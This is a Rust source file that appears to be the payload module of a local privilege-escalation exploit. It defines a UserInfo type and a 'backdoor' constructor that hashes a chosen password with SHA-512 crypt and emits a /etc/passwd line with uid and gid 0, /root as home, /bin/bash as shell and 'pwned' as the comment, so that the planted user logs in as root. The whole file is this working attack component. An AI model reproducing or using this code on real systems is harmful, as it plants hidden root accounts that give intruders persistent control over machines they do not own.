use sha_crypt::{sha512_simple, Sha512Params};

#[derive(thiserror::Error, Debug)]
pub enum PayloadError {
    #[error("Field Error: '{0}' may not contain ':' or line breaks")]
    BadField(String),

    #[error("Hash Error: {0}")]
    HashError(String),
}

/// One record of a passwd(5) file.
///
/// The backdoor constructor hashes the plaintext with SHA-512 crypt, which
/// every glibc login path accepts, and pins uid/gid 0 so the planted user
/// lands as root.
#[derive(Debug, Clone)]
pub struct UserInfo {
    pub username: String,
    pub hash: String,
    pub uid: u32,
    pub gid: u32,
    pub info: String,
    pub home_dir: String,
    pub shell: String,
}

fn field(value: &str) -> Result<String, PayloadError> {
    if value.contains(':') || value.contains('\n') || value.contains('\r') {
        return Err(PayloadError::BadField(value.into()));
    }
    Ok(value.into())
}

impl UserInfo {
    pub fn new(
        username: &str,
        hash: &str,
        uid: u32,
        gid: u32,
        info: &str,
        home_dir: &str,
        shell: &str,
    ) -> Result<UserInfo, PayloadError> {
        Ok(UserInfo {
            username: field(username)?,
            // the hash itself never contains ':' but check anyway
            hash: field(hash)?,
            uid,
            gid,
            info: field(info)?,
            home_dir: field(home_dir)?,
            shell: field(shell)?,
        })
    }

    /// A root-equivalent record for `username`, password hashed from
    /// `plaintext`.
    pub fn backdoor(username: &str, plaintext: &str) -> Result<UserInfo, PayloadError> {
        let params = Sha512Params::default();
        let hash = sha512_simple(plaintext, &params)
            .map_err(|err| PayloadError::HashError(format!("{err:?}")))?;

        UserInfo::new(username, &hash, 0, 0, "pwned", "/root", "/bin/bash")
    }

    /// The record as a full passwd line, trailing newline included.
    pub fn passwd_line(&self) -> String {
        format!(
            "{}:{}:{}:{}:{}:{}:{}\n",
            self.username, self.hash, self.uid, self.gid, self.info, self.home_dir, self.shell
        )
    }
}
